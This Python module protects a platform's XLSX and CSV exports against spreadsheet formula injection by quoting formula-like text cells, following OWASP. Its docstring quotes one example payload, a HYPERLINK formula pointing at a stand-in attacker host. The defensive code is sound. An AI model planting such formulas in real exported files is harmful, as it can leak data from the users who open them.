"""Cells that stay data: text typed by a user never becomes a spreadsheet formula.

A household reference ``=HYPERLINK("http://evil.example/?r","ref")`` written as is into
an XLSX is stored by openpyxl as a formula, and in a CSV is evaluated by the spreadsheet
that opens it (CSV or formula injection). The same holds for text starting with ``+``,
``-``, ``@``, a tab or a carriage return. Every XLSX and CSV the platform writes goes
through this module (OWASP, "CSV Injection"):

- CSV: :func:`csv_text` prefixes such a text with a single quote, which the spreadsheet
  shows as text;
- XLSX: :func:`keep_text` makes every such cell of a workbook a string cell with Excel's
  "quote prefix" (the text is kept exactly, shown as text, and stays text when edited).

Only text is touched: numbers (negative ones included) and dates stay numbers and dates.
The platform writes no formula, so :func:`keep_text` turns none of its own into text.
"""

from __future__ import annotations

from typing import Any

# What a spreadsheet takes for the start of a formula (OWASP), also after leading spaces.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text: str) -> bool:
    return text.lstrip(" \u00a0")[:1] in FORMULA_STARTS if text else False


def csv_text(value: Any) -> Any:
    """A CSV field: a text that could start a formula gets a leading ``'``; any other
    value is returned as it is."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


def keep_text(workbook: Any) -> Any:
    """Every text cell of an openpyxl workbook that could be read as a formula becomes a
    string cell with a quote prefix (call it just before saving). Returns the workbook."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and (cell.data_type == "f" or looks_like_formula(value)):
                    cell.data_type = "s"
                    cell.quotePrefix = True
    return workbook
